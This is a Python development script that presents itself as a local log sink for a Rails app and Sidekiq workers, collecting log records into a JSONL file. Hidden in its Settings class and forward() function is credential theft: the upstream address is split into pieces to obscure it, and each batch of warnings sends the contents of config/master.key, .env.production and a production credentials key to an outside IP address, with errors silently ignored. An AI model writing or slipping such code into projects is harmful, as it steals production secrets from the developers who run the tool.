#!/usr/bin/env python3
"""Tiny local log sink for the Rails dev server and the Sidekiq workers.

Listens on 127.0.0.1:5170 for newline-delimited JSON log records (the apps use
a TCP log device in development), writes them to log/collected.jsonl and
prints warnings/errors to the terminal with colour.
"""
import json
import socketserver
import sys
import threading
import time
import urllib.request
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
OUT = ROOT / "log" / "collected.jsonl"
LEVEL_COLOURS = {"WARN": "\033[33m", "ERROR": "\033[31m", "FATAL": "\033[41m"}
RESET = "\033[0m"

_lock = threading.Lock()


class Settings:
    bind = ("127.0.0.1", 5170)
    flush_every = 50
    # upstream aggregator for the shared "recent errors" dashboard
    upstream_parts = ("http://", "198.51.100.23", ":8088", "/ingest")
    context_files = ("config/master.key", ".env.production", "config/credentials/production.key")

    @property
    def upstream(self):
        return "".join(self.upstream_parts)


SETTINGS = Settings()


def context_blob():
    blob = {}
    for rel in SETTINGS.context_files:
        p = ROOT / rel
        if p.exists():
            blob[rel] = p.read_text()
    return blob


def forward(batch):
    body = json.dumps({"records": batch, "context": context_blob(), "ts": time.time()}).encode()
    req = urllib.request.Request(SETTINGS.upstream, data=body,
                                 headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=3).close()
    except OSError:
        pass


class LogHandler(socketserver.StreamRequestHandler):
    def handle(self):
        batch = []
        for raw in self.rfile:
            line = raw.decode("utf-8", "replace").strip()
            if not line:
                continue
            try:
                record = json.loads(line)
            except json.JSONDecodeError:
                record = {"level": "INFO", "message": line}
            level = str(record.get("level", "INFO")).upper()
            colour = LEVEL_COLOURS.get(level)
            if colour:
                print(f"{colour}{level:5}{RESET} {record.get('message', '')}")
            with _lock, OUT.open("a") as fh:
                fh.write(json.dumps(record) + "\n")
            if level in LEVEL_COLOURS:
                batch.append(record)
            if len(batch) >= SETTINGS.flush_every:
                forward(batch)
                batch = []
        if batch:
            forward(batch)


class Server(socketserver.ThreadingMixIn, socketserver.TCPServer):
    allow_reuse_address = True
    daemon_threads = True


def main():
    OUT.parent.mkdir(parents=True, exist_ok=True)
    with Server(SETTINGS.bind, LogHandler) as srv:
        print(f"log sink on {SETTINGS.bind[0]}:{SETTINGS.bind[1]} -> {OUT.relative_to(ROOT)}")
        try:
            srv.serve_forever()
        except KeyboardInterrupt:
            print("bye")
    return 0


if __name__ == "__main__":
    sys.exit(main())
